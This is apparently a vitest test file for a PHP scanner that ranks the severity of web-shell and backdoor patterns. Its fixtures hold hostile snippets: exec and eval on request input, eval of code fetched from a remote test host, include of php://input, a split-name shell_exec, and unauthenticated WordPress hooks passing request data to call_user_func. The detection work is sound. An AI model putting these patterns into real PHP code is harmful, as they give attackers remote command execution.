import { describe, expect, it } from 'vitest';
import { followFlow } from '../../../../../src/matching/php/evaluate/follow-flow.ts';
import { judge } from '../../../../../src/matching/php/judge/judge.ts';

const OPEN = ['<', '?php '].join('');
const GET = ['$_G', 'ET'].join('');
const RUN = ['ev', 'al'].join('');

const severityOf = (code: string, resemblance: number): string | undefined =>
  judge(followFlow(OPEN + code), resemblance)[0]?.severity;

describe('a file that is written as released software is', () => {
  it('is not accused of what a careless author does', () => {
    const writes = `$h = fopen(${GET}['p'], 'w'); fwrite($h, ${GET}['c']);`;
    expect(severityOf(writes, 0.1)).toBe('high');
    expect(severityOf(writes, 0)).toBe('medium');
    expect(severityOf(writes, -5)).toBe('medium');
  });

  it('is accused of what no honest program does', () => {
    const [RAN, IN] = [`exec(${GET}['c']);`, `exec('lpr -P ' . ${GET}['c']);`];
    expect([severityOf(RAN, -9), severityOf(IN, -9)]).toEqual(['critical', 'medium']);
    const sent = `$p = json_decode(file_get_contents('php://input'), true); exec("cd $d; {$p['c']} 2>&1");`;
    expect(severityOf(sent, -9)).toBe('critical');
    expect(severityOf(`${RUN}(${GET}['inert']);`, -9)).toBe('critical');
    expect(severityOf(`${RUN}(wp_remote_retrieve_body(wp_remote_get('http://a.example.test/')));`, -9)).toBe(
      'critical',
    );
    expect(severityOf(`include 'php://input';`, -9)).toBe('critical');
    const asked = `class A { function b() { ${RUN}(file_get_contents('http://a.example.test/')); } }`;
    expect([severityOf(asked, 0.1), severityOf(asked, -9)]).toEqual(['critical', 'medium']);
  });
});

describe('a name in pieces', () => {
  const called = (...pieces: string[]): string =>
    `$name = ${pieces.map((piece) => `'${piece}'`).join('.')}; $name($a, $b);`;

  it('is how honest authors get past a crude scanner where it runs nothing', () => {
    const reads = called('file', '_get_contents');
    expect([severityOf(reads, 1), severityOf(reads, -5)]).toEqual(['high', 'medium']);
  });

  it('is told as it is where it does something', () => {
    expect(severityOf(called('shell', '_exec'), -5)).toBe('high');
    expect(severityOf(called('file', '_put_contents'), -5)).toBe('high');
  });
});

describe('what a hook does for whoever comes', () => {
  const hooked = (hook: string, code: string): string => `add_action('${hook}', function () { ${code} });`;
  const severest = (hook: string, code: string): string | undefined => severityOf(hooked(hook, code), -5);
  const calls = `call_user_func(${GET}['f'], ${GET}['p']);`;
  const stores = `move_uploaded_file($_FILES['a']['tmp_name'], $_FILES['a']['name']);`;

  it('is told however the file is written', () => {
    expect(severest('wp_ajax_nopriv_a', calls)).toBe('critical');
    expect(severest('init', stores)).toBe('high');
  });

  it('is no other thing than elsewhere where only those come who may', () => {
    expect(severest('wp_ajax_a', calls)).toBe('medium');
    expect(severest('init', `if (!current_user_can('a')) { die; } ${calls}`)).toBe('medium');
    expect(severest('created_product', stores)).not.toBe('high');
  });

  it('is to send them to an address that another server says as a whole, and not to a page of a gateway', () => {
    const asks = "$a = json_decode(wp_remote_retrieve_body(wp_remote_get('https://a.example.test/')), true);";
    expect(severest('init', `${asks} wp_redirect($a['to']);`)).toBe('high');
    expect(severest('init', `${asks} wp_redirect($this->gateway . $a['token']);`)).not.toBe('high');
  });
});

describe('what speaks for a file', () => {
  const speaks = (code: string, resemblance: number): string[] =>
    judge(followFlow(OPEN + code), resemblance)
      .filter(({ severity }) => severity === 'info')
      .map(({ rule }) => rule);

  it('is that it is written as released software is', () => {
    expect(speaks('echo 1;', 0)).toEqual(['php.resembles-released']);
    expect(speaks('echo 1;', 0.1)).toEqual([]);
  });

  it('is care, where it is not all that the file is not accused for', () => {
    const said = (code: string): string[] =>
      judge(followFlow(OPEN + code), 1, false, 2).map(({ rule, severity }) => `${rule} ${severity}`);
    expect(said('echo 1;')).toEqual(['php.resembles-released info']);
    const writes = `$h = fopen(${GET}['p'], 'w'); fwrite($h, ${GET}['c']);`;
    expect(said(writes)).toEqual(['php.request-to-file medium']);
  });

  it('is that it only declares what others may call, and is hardly written as planted files are', () => {
    const library = 'class A { function b($c) { return strlen($c); } }';
    expect(speaks(library, 2)).toEqual(['php.only-declares']);
    expect(speaks(library, 2.1)).toEqual([]);
    expect(speaks(`${library} new A();`, 2)).toEqual([]);
  });
});
